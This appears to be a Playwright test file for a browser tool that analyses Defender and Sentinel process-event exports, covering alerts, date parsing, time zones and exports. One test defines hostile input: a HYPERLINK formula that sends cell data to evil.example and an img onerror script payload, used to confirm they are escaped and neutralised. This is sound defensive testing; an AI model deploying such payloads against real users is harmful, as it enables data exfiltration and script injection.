import { readFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import { test, expect, settled, exportJson, exportCsv, watchBusy } from './fixtures';

const fixture = (name: string) => fileURLToPath(new URL(`../fixtures/${name}`, import.meta.url));
const json = (name: string) => JSON.parse(readFileSync(fixture(name), 'utf8')) as unknown;

interface Params { now: string; start?: string; bin?: string; threshold?: number }
const hashOf = (p: Params) => `#start=${p.start ?? '2d'}&bin=${p.bin ?? '1d'}&threshold=${p.threshold ?? 10}&now=${encodeURIComponent(p.now)}`;

// Each fixture's expected export was written by hand from the KQL semantics (tests/fixtures/README.md).
for (const name of ['defender-iso.csv', 'defender-display.csv', 'sentinel-dayfirst.csv', 'api.json']) {
  test(`dropping ${name} gives the expected alerts and Export JSON`, async ({ page }) => {
    const stem = name.replace(/\.[^.]+$/, '');
    await page.goto(`./${hashOf(json(`${stem}.params.json`) as Params)}`);
    const busy = await watchBusy(page);
    await page.locator('input[type=file]').setInputFiles(fixture(name));
    await settled(page);
    expect(await busy()).toEqual(['true', 'false']);
    const expected = json(`${stem}.expected.json`) as Record<string, unknown>[];
    await expect(page.getByTestId('alert')).toHaveCount(expected.length);
    const rows = (await exportJson(page)) as Record<string, unknown>[];
    expect(rows).toEqual(expected);
    rows.forEach((r, i) => expect(Object.keys(r)).toEqual(Object.keys(expected[i]!)));
  });
}

test('several files at once, one of them not an export: the others keep working and the bad one is named', async ({ page }) => {
  const p = json('defender-iso.params.json') as Params;
  await page.goto(`./${hashOf(p)}`);
  await page.locator('input[type=file]').setInputFiles([
    { name: 'notes.csv', mimeType: 'text/csv', buffer: Buffer.from('Name,Phone\nAlice,123\n') },
    { name: 'defender-iso.csv', mimeType: 'text/csv', buffer: readFileSync(fixture('defender-iso.csv')) },
  ]);
  await settled(page);
  await expect(page.getByRole('alert').filter({ hasText: 'notes.csv' })).toContainText('not a DeviceProcessEvents export');
  expect(await exportJson(page)).toEqual(json('defender-iso.expected.json'));
});

test('log text is shown as text and exported with formulas neutralised', async ({ page }) => {
  const hostile = '=HYPERLINK("http://evil.example/?x="&A1) <img src=x onerror="window.__pwned=1"> user';
  const csv = ['Timestamp,DeviceName,FileName,ProcessCommandLine,AccountUpn',
    `2024-05-09T10:00:00Z,<b>WS1</b>,net.exe,"${hostile.replaceAll('"', '""')}",@evil`].join('\n');
  await page.goto('./#start=36500d&threshold=1&now=latest');
  await page.locator('input[type=file]').setInputFiles({ name: 'hostile.csv', mimeType: 'text/csv', buffer: Buffer.from(csv) });
  await settled(page);
  await page.getByRole('button', { name: 'Show what was counted for @evil' }).click();
  await settled(page);
  await expect(page.locator('table.commands code')).toHaveText(hostile);
  await expect(page.getByRole('table', { name: 'Counted events' })).toContainText('<b>WS1</b>');
  expect(await page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned)).toBeUndefined();
  expect(await page.locator('img').count()).toBe(0);
  const text = await exportCsv(page);
  const [header, row] = text.split('\r\n');
  expect(header!.startsWith('FirstEvent,LastEvent,TotalEvents')).toBe(true);
  expect(row).toContain(`"'@evil"`.replaceAll('"', ''));
  expect(row).toContain(`"[""=HYPERLINK`);
});

test('an undecided day order is flagged with a switch, and flipping it re-reads the times', async ({ page }) => {
  await page.goto('./#start=36500d&bin=1d&threshold=1&now=latest');
  await page.locator('input[type=file]').setInputFiles(fixture('sentinel-undecided.csv'));
  await settled(page);
  const source = page.getByTestId('source');
  await expect(source.getByTestId('range')).toHaveText('2026-03-02 11:20:05.777 → 2026-03-05 17:42:10.455');
  await expect(source).toContainText('no value tells day-first from month-first');
  const order = source.getByLabel(/TimeGenerated dates read as/);
  await expect(order).toHaveValue('dmy');
  const busy = await watchBusy(page);
  await order.selectOption('mdy');
  await settled(page);
  expect(await busy()).toEqual(['true', 'false']);
  // 05/03/2026 is now 3 May; 02/03 becomes 3 February.
  await expect(source.getByTestId('range')).toHaveText('2026-02-03 11:20:05.777 → 2026-05-03 17:42:10.455');
  const rows = (await exportJson(page)) as Record<string, string>[];
  expect(rows.every((r) => /^2026-(02|05)-0[1-5]T/.test(r.TimeGenerated!))).toBe(true);
});

test('the zone a display-style export was shown in shifts its times', async ({ page }) => {
  await page.goto('./#start=36500d&bin=1d&threshold=1&now=latest');
  await page.locator('input[type=file]').setInputFiles(fixture('defender-display.csv'));
  await settled(page);
  const source = page.getByTestId('source');
  const before = await source.getByTestId('range').textContent();
  const first = ((await exportJson(page)) as Record<string, string>[])[0]!.FirstEvent!;
  await source.getByLabel(/Times were displayed in/).selectOption({ label: 'UTC+02:00' });
  await settled(page);
  expect(await source.getByTestId('range').textContent()).not.toBe(before);
  const shifted = ((await exportJson(page)) as Record<string, string>[])[0]!.FirstEvent!;
  expect(Date.parse(first) - Date.parse(shifted)).toBe(2 * 3600 * 1000);
});
